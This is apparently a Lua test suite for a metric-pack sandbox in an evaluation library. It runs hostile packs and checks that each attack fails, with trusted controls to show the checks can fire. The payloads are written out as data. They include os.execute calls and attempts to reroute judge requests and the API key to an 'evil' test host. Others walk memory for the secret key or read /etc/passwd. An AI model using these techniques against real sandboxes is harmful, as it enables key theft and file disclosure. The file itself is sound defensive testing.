-- The metric-pack sandbox under attack (issue 12): one case per attack. Each
-- runs a real eval script (default text metrics + a judge on the loopback
-- test server) with the hostile pack, asserts the attack fails, and that the
-- run's results are identical to a run without the pack. Each attack also has
-- a control: the same payload loaded trusted (or the same detector pointed at
-- an honest copy of the harm) must be seen by the check, so a check that
-- could never fire does not pass silently.
local h = require "helper"
local testserver = require "testserver"
local cjson = require "cjson"

local KEY = "sk-user-secret-0123456789abcdef"

local DRIVER = [==[
-- driver: a small eval with the default text metrics and one judge made
-- after the pack is loaded; prints its results as JSON on the last line.
local evalua = require "evalua"
local cjson = require "cjson"
local pack, trusted = arg[1], arg[2] == "1"
local extra, loaderr = {}, nil
local pre = evalua.metrics.genai.make_genai_metric{ name = "early", definition = "d", grading_prompt = "g",
  model = "openai:/judge-a" }
if pack and pack ~= "" then
  local ok, m = pcall(evalua.metrics.load, pack, { trusted = trusted })
  if ok then
    if evalua.metrics.is_metric(m) then m = { m } end
    for _, x in ipairs(m) do extra[#extra + 1] = x end
  else
    loaderr = tostring(m)
  end
end
extra[#extra + 1] = pre
extra[#extra + 1] = evalua.metrics.genai.make_genai_metric{ name = "late", definition = "d",
  grading_prompt = "g", model = "openai:/judge-b" }
local data = evalua.table.from_rows({
  { inputs = "How do I bake bread?", predictions = "Mix flour, water, salt and yeast, then bake it." },
  { inputs = "What is the capital of France?", predictions = "Paris is the capital of France." },
  { inputs = "Say something rude.", predictions = "You are a stupid idiot and I hate you." },
}, { columns = { "inputs", "predictions" } })
local r = evalua.evaluate{ data = data, predictions = "predictions", model_type = "text",
  extra_metrics = extra }
local out = { metrics = {}, rows = {}, loaderr = loaderr, probe = _G.PROBE }
for k, v in pairs(r.metrics) do
  if not k:match("^pack") then out.metrics[k] = string.format("%.12g", v) end
end
local t = r.tables.eval_results_table
for _, c in ipairs(t:columns()) do
  local col = t:column(c)
  local vals = {}
  for i = 1, col.n do vals[i] = col[i] == nil and "nil" or tostring(col[i]) end
  out.rows[c] = table.concat(vals, "|")
end
-- the host's cjson after the run: a pack must not have changed its settings
out.cjson = cjson.encode({ x = 0.1234567891234 })
io.write("\nRESULT ", cjson.encode(out), "\n")
]==]

local server = testserver.start{ log = true }

local function run(d, pack, trusted, env)
  local parts = { "cd " .. h.quote(d) .. " &&", "OPENAI_API_KEY=" .. h.quote(KEY),
    "OPENAI_BASE_URL=" .. h.quote(server.url .. "/v1") }
  for k, v in pairs(env or {}) do parts[#parts + 1] = k .. "=" .. h.quote(v) end
  parts[#parts + 1] = h.quote(h.bin)
  parts[#parts + 1] = "--store " .. h.quote(d .. "/evalua.db")
  parts[#parts + 1] = "--no-cache --quiet driver.lua"
  parts[#parts + 1] = h.quote(pack or "")
  parts[#parts + 1] = trusted and "1" or "0"
  local code, out, err = h.sh(table.concat(parts, " "))
  local json = out:match("\nRESULT ([^\n]*)")
  if not json then error("driver failed (exit " .. code .. "): " .. err .. out, 2) end
  return cjson.decode(json), err
end

local function workdir()
  local d = h.tmpdir()
  h.write(d .. "/driver.lua", DRIVER)
  return d
end

local baseline = run(workdir())
assert(baseline.metrics["toxicity/v1/mean"], "baseline has no toxicity")
assert(baseline.metrics["late/v1/mean"], "baseline has no judge mean")

-- the results of a run with the pack equal the baseline (pack metrics aside)
local function host_rows(rows)
  local out = {}
  for k, v in pairs(rows) do if not k:match("^pack") then out[k] = v end end
  return out
end

local function unchanged(res, what)
  h.same(res.metrics, baseline.metrics, what .. ": metrics")
  h.same(host_rows(res.rows), host_rows(baseline.rows), what .. ": rows")
  h.eq(res.cjson, baseline.cjson, what .. ": host cjson")
end

local function changed(res, what)
  local ok = pcall(unchanged, res, what)
  assert(not ok, what .. ": the control run should differ from the baseline")
end

-- 1. full privileges through the module path, and cwd shadowing of a built-in
h.case("1: a pack cannot load host code from the working directory", function()
  local d = workdir()
  os.execute("mkdir -p " .. h.quote(d .. "/evalua/metrics/builtin") .. " " .. h.quote(d .. "/metrics"))
  h.write(d .. "/evalua/metrics/builtin/evil.lua",
    "os.execute('touch " .. d .. "/pwned') return function() return nil end")
  h.write(d .. "/evil.lua", [[
local m = require("evalua.metrics")
local ok, e = pcall(m.builtin, "evil")
local ok2 = pcall(function() return m.evil end)
return m.make_metric{ name = "pack_x", eval_fn = function(predictions) return { scores = { n = predictions.n } } end }
]])
  local res = run(d, "evil.lua")
  assert(not h.read(d .. "/pwned"), "the cwd module ran with the host's privileges")
  unchanged(res, "attack 1")
  -- a ./metrics/faithfulness.lua does not shadow the built-in judge
  h.write(d .. "/metrics/faithfulness.lua", [[return { name = "faithfulness", eval_fn = function(predictions)
    return { scores = { n = predictions.n } } end }]])
  local code, out = h.sh("cd " .. h.quote(d) .. " && " .. h.quote(h.bin) ..
    " -e 'print(require(\"evalua\").metrics.load(\"faithfulness\").kind)'")
  h.eq(code, 0, "load faithfulness")
  h.eq(out:match("%S+"), "genai", "built-in faithfulness")
  -- control: the detector sees a pack that does run os.execute (trusted)
  h.write(d .. "/trusted.lua", "os.execute('touch " .. d .. "/pwned') return { name = 'pack_t', " ..
    "eval_fn = function(predictions) return { scores = { n = predictions.n } } end }")
  run(d, "trusted.lua", true)
  assert(h.read(d .. "/pwned"), "control: the marker detector does not work")
  -- control: an explicit path does load the shadow (the detector sees it)
  code, out = h.sh("cd " .. h.quote(d) .. " && " .. h.quote(h.bin) ..
    " -e 'print(require(\"evalua\").metrics.load(\"./metrics/faithfulness.lua\").kind)'")
  h.eq(out:match("%S+"), "nil", "control: explicit path")
end)

-- 2. exfiltration through request-routing fields
h.case("2: a pack cannot choose where requests go or what headers carry", function()
  local evil = testserver.start{ require_key = KEY }
  local d = workdir()
  for _, field in ipairs({ "proxy_url", "extra_headers", "endpoint" }) do
    local spec
    if field == "proxy_url" then spec = string.format("proxy_url = %q", evil.url .. "/v1/chat/completions")
    elseif field == "extra_headers" then spec = "extra_headers = { ['x-exfil'] = 'yes' }"
    else spec = "model = 'endpoints:/evil'" end
    h.write(d .. "/exfil.lua", string.format([[
local genai = require("evalua.metrics.genai")
return genai.make_genai_metric{ name = "pack_j", definition = "d", grading_prompt = "g",
  model = "openai:/x", %s }
]], spec))
    local res = run(d, "exfil.lua")
    assert(res.loaderr and res.loaderr:find("'" .. (field == "endpoint" and "model" or field) .. "'", 1, true),
      field .. ": expected a load error naming the field, got " .. tostring(res.loaderr))
    unchanged(res, "attack 2 " .. field)
    -- the same field as a plain spec table
    h.write(d .. "/exfil2.lua", string.format([[return { name = "pack_s", definition = "d",
      grading_prompt = "g", model = "openai:/x", %s }]], spec))
    res = run(d, "exfil2.lua")
    assert(res.loaderr, field .. ": spec table accepted")
    -- and through a built-in judge's options
    h.write(d .. "/exfil3.lua", string.format([[return require("evalua.metrics.genai").faithfulness{ %s }]],
      field == "endpoint" and "model = 'endpoints:/evil'" or spec))
    res = run(d, "exfil3.lua")
    assert(res.loaderr, field .. ": built-in judge options accepted")
  end
  h.eq(evil:stats().requests or 0, 0, "requests that reached the pack's host")
  -- honoured when the trusted script passes the field in args
  h.write(d .. "/routed.lua", [[
local args = ...
return function(a) return require("evalua.metrics.genai").make_genai_metric{ name = "pack_r",
  definition = "d", grading_prompt = "g", model = "openai:/x", proxy_url = a.proxy_url } end]])
  local code, out, err = h.sh("cd " .. h.quote(d) .. " && " .. h.quote(h.bin) .. " -e " .. h.quote(string.format(
    [[local m = require("evalua").metrics.load("routed.lua", { args = { proxy_url = %q } }) print(m.name)]],
    evil.url .. "/v1/chat/completions")))
  h.eq(code, 0, "trusted args: " .. err)
  h.eq(out:match("%S+"), "pack_r")
  -- control: the same pack, trusted, does send rows and the key to its host
  h.write(d .. "/exfil.lua", string.format([[
local genai = require("evalua.metrics.genai")
return genai.make_genai_metric{ name = "pack_j", definition = "d", grading_prompt = "g",
  model = "openai:/x", proxy_url = %q }
]], evil.url .. "/v1/chat/completions"))
  run(d, "exfil.lua", true)
  local st = evil:stats()
  assert((st.status and st.status["200"] or 0) > 0, "control: the key did not reach the pack's host: " .. cjson.encode(st))
  evil:stop()
end)

-- 2b. keys are attached at send time: nothing a pack can reach holds one
h.case("2: no key is reachable from pack code", function()
  local d = workdir()
  h.write(d .. "/walk.lua", [[
local found, seen, count = {}, {}, 0
local function walk(v, path, depth)
  if type(v) == "string" then
    if v:find("sk-user-secret", 1, true) then found[#found + 1] = path end
    return
  end
  if type(v) ~= "table" or seen[v] or depth > 12 then return end
  seen[v] = true
  count = count + 1
  for k, x in pairs(v) do walk(k, path .. ".<key>", depth + 1) walk(x, path .. "." .. tostring(k), depth + 1) end
end
walk(_ENV, "_ENV", 0)
for _, name in ipairs({ "evalua.metrics", "evalua.metrics.genai", "evalua.text", "evalua.tokenize",
  "evalua.toxicity", "cjson" }) do walk(require(name), name, 0) end
local m = require("evalua.metrics")
walk(m.genai.faithfulness(), "faithfulness()", 0)
walk(m.genai.make_genai_metric{ name = "pack_k", definition = "d", grading_prompt = "g" }, "judge", 0)
return m.make_metric{ name = "pack_w", eval_fn = function(predictions, inputs)
  walk(predictions, "predictions", 0) walk(inputs, "inputs", 0)
  return { scores = { n = predictions.n }, justifications = { table.concat(found, " "), tostring(count), "", n = 3 } } end }
]])
  local res = run(d, "walk.lua")
  assert(not res.loaderr, tostring(res.loaderr))
  local j = res.rows["pack_w/justification"]
  h.eq(j:match("^([^|]*)"), "", "paths to the key")
  assert(tonumber(j:match("^[^|]*|(%d+)")) > 20, "the walk saw too little: " .. j)
  unchanged(res, "attack 2b")
  -- control: the walker finds the key where it is (an environment it can read)
  h.write(d .. "/walk2.lua", "local k = os.getenv('OPENAI_API_KEY') " .. h.read(d .. "/walk.lua"):gsub("walk%(_ENV, \"_ENV\", 0%)", "walk({ k }, 'env', 0)"))
  res = run(d, "walk2.lua", true)
  assert(res.rows["pack_w/justification"]:find("env.1", 1, true), "control: " .. res.rows["pack_w/justification"])
end)

-- 3. rewriting other metrics through their shared metatable
local META = [[
local m = require("evalua.metrics")
local tox = m.toxicity()
pcall(function() getmetatable(tox).score_row = function() return 0, "owned" end end)
pcall(function() getmetatable(m.token_count()).__index.eval_fn = nil end)
return m.make_metric{ name = "pack_m", eval_fn = function(predictions) return { scores = { n = predictions.n } } end }
]]

h.case("3: a pack cannot rewrite other metrics", function()
  local d = workdir()
  h.write(d .. "/meta.lua", META)
  unchanged(run(d, "meta.lua"), "attack 3")
  changed(run(d, "meta.lua", true), "control 3")
end)

-- 4. changing shared state behind the read-only views
h.case("4: a pack cannot change shared state", function()
  local d = workdir()
  h.write(d .. "/state.lua", [[
local m = require("evalua.metrics")
local g = require("evalua.metrics.genai")
local cj = require("cjson")
pcall(function() g.DEFAULT_PARAMETERS.temperature = 1.99 end)
pcall(function() g.DEFAULT_PARAMETERS.max_tokens = 1 end)
pcall(function() m.STANDARD_AGGREGATIONS[1] = "max" end)
pcall(function() table.insert(m.STANDARD_AGGREGATIONS, "min") end)
pcall(function() m.BUILTIN[1] = "nope" end)
pcall(function() cj.encode_number_precision(3) end)
pcall(function() local x = m.make_metric{ name = "pack_a", eval_fn = function() end } x.aggregations[1] = "max" end)
pcall(function() string.reverse = nil end)
return m.make_metric{ name = "pack_s", eval_fn = function(predictions) return { scores = { n = predictions.n } } end }
]])
  server:reset()
  unchanged(run(d, "state.lua"), "attack 4")
  local log = h.read(server.log) or ""
  changed(run(d, "state.lua", true), "control 4")
end)

-- 5. tampering with the data other metrics see
h.case("5: a pack's eval_fn sees read-only data", function()
  local d = workdir()
  h.write(d .. "/tamper.lua", [[
local m = require("evalua.metrics")
return {
  m.make_metric{ name = "pack_t", eval_fn = function(predictions, inputs)
    pcall(function() predictions[1] = "HACKED" end)
    pcall(function() table.sort(predictions) end)
    pcall(function() inputs[2] = "HACKED" end)
    pcall(function() rawset(predictions, 3, "HACKED") end)
    return { scores = { 1, 2, 3, n = 3 } }
  end },
  m.make_metric{ name = "pack_u", eval_fn = function(predictions, pack_t)
    pcall(function() pack_t.scores[1] = 99 end)
    return { scores = { n = predictions.n } }
  end },
}
]])
  unchanged(run(d, "tamper.lua"), "attack 5")
  changed(run(d, "tamper.lua", true), "control 5")
end)

-- 7. probing files
h.case("7: a pack cannot probe files", function()
  local d = workdir()
  h.write(d .. "/secret.txt", "TOPSECRET-LINE = 1\n")
  for _, target in ipairs({ d .. "/secret.txt", "/etc/passwd", d .. "/absent.lua", "/etc" }) do
    h.write(d .. "/probe.lua", string.format([[
local m = require("evalua.metrics")
local tox = require("evalua.toxicity")
local msgs = {}
msgs[1] = select(2, pcall(m.load, %q))
msgs[2] = select(2, pcall(tox.roberta_open, %q))
msgs[3] = select(2, pcall(m.toxicity, { model = "roberta", path = %q }))
return m.make_metric{ name = "pack_p", eval_fn = function(predictions)
  return { scores = { n = predictions.n }, justifications = { tostring(msgs[1]), tostring(msgs[2]), tostring(msgs[3]), n = 3 } } end }
]], target, target, target))
    local res = run(d, "probe.lua")
    local seen = res.rows["pack_p/justification"] or ""
    assert(not seen:find("TOPSECRET", 1, true), "a foreign file was quoted: " .. seen)
    assert(not seen:find("root:", 1, true), "/etc/passwd was quoted: " .. seen)
    assert(not seen:find("o such file", 1, true) and not seen:find("s a directory", 1, true)
      and not seen:find("cannot open", 1, true),
      "the error tells whether " .. target .. " exists: " .. seen)
    unchanged(res, "attack 7")
  end
  -- the same message for a file that exists and one that does not
  local function msg_for(target)
    h.write(d .. "/probe.lua", string.format([[
local ok, e = pcall(require("evalua.toxicity").roberta_open, %q)
local ok2, e2 = pcall(require("evalua.metrics").load, %q)
error(tostring(e):gsub(%q, "P") .. " / " .. tostring(e2):gsub(%q, "P"), 0)]], target, target,
      target:gsub("%p", "%%%0"), target:gsub("%p", "%%%0")))
    local _, out = h.sh("cd " .. h.quote(d) .. " && " .. h.quote(h.bin) ..
      " -e 'print(select(2, pcall(require(\"evalua\").metrics.load, \"probe.lua\")))'")
    return out
  end
  local m1 = msg_for(d .. "/secret.txt")
  local m2 = msg_for(d .. "/nothing-here")
  h.eq(m1, m2, "messages for an existing and a missing file")
  -- control: trusted code does see the file (the TOPSECRET detector works)
  h.write(d .. "/probe.lua", string.format([[local f = io.open(%q) local s = f:read("a")
return { name = "pack_p", eval_fn = function(predictions) return { scores = { n = predictions.n },
  justifications = { s, s, s, n = 3 } } end }]], d .. "/secret.txt"))
  local res = run(d, "probe.lua", true)
  assert((res.rows["pack_p/justification"] or ""):find("TOPSECRET", 1, true), "control: detector")
end)

server:stop()
h.done()
